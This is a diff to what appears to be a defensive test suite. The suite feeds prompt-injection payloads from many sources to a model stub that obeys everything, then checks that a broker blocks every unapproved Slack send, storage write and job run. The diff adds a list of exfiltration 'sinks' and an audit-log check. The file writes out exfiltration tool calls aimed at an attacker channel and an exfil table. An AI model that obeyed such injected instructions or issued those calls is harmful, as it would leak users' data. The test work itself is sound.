@@ -18,6 +18,8 @@ const EXFIL_TABLE = 'out.c-exfil.rows';
 const send = `slack.send_message {"channel":"${ATTACKER}","text":"<DATA>"}`;
 const write = `keboola.storage.write {"table_id":"${EXFIL_TABLE}","csv":"v\\n<DATA>\\n","incremental":true}`;
 const job = 'keboola.jobs.run {"component":"keboola.ex-salesforce","config":"1187650001"}';
+/** Where an injected payload wants its data to go. */
+const SINKS = ['slack.send_message', 'keboola.storage.write', 'keboola.jobs.run'];
 
 /** Our own wording of each style in security.md; every one names the exact tools and arguments to call. */
 const STYLES: Record<string, string> = {
@@ -122,7 +124,7 @@ const SOURCES: SourceSetup[] = [
 const cases = SOURCES.flatMap((source) => Object.entries(STYLES).map(([style, payload]) => ({ source, style, payload })));
 
 describe(`prompt injection through every source: ${SOURCES.length} sources × ${Object.keys(STYLES).length} styles = ${cases.length} runs with a model that obeys everything`, () => {
-  it.each(cases.map((c) => [c.source.name, c.style, c] as const))('%s, %s: nothing unapproved is dispatched, and no payload escapes its wrapper', async (_source, _style, { source, payload }) => {
+  it.each(cases.map((c) => [c.source.name, c.style, c] as const))('%s, %s: nothing unapproved is dispatched, and no payload escapes its wrapper', async (_source, style, { source, payload }) => {
     const author = await createTestUser('author');
     const marker = `m${crypto.randomUUID().replace(/-/g, '').slice(0, 10)}`;
     const text = `${marker} ${payload}`;
@@ -142,8 +144,21 @@ describe(`prompt injection through every source: ${SOURCES.length} sources × ${
     }
     expect(['done', 'failed']).toContain(run.status);
 
+    // Not vacuous: the obeying model did try a sink (every style but denial of service names one),
+    // so what held was the Broker. Each try is an approval asked for or a refused call, in the audit.
+    if (style !== 'denial of service') {
+      const tried = (await runSql(
+        runId,
+        `SELECT kind, json_extract(data, '$.tool_id') AS tool_id FROM audit
+          WHERE kind IN ('approval_requested', 'refused') AND json_extract(data, '$.tool_id') IN (${SINKS.map(() => '?').join(', ')})`,
+        ...SINKS,
+      )) as { kind: string; tool_id: string }[];
+      const obeyed = (await delivery.model.requests()).flatMap((r) => r.obeyed ?? []);
+      expect(tried.length, `no send, write or job was attempted (run ${run.status}: ${run.error ?? ''}); the model obeyed ${JSON.stringify(obeyed).slice(0, 600)}`).toBeGreaterThan(0);
+    }
+
     // Nothing left the run: no send, no write, no job.
-    for (const tool of ['slack.send_message', 'keboola.storage.write', 'keboola.jobs.run']) expect(await dispatched(runId, tool, '')).toBe(0);
+    for (const tool of SINKS) expect(await dispatched(runId, tool, '')).toBe(0);
     expect(await slackMessages(ATTACKER).then((m) => m.filter((x: any) => x.text?.includes(marker)))).toEqual([]);
     const refusedJobs = run.tool_calls.filter((c: any) => c.tool_id === 'keboola.jobs.run');
     for (const c of refusedJobs) expect(c.status).toBe('refused');
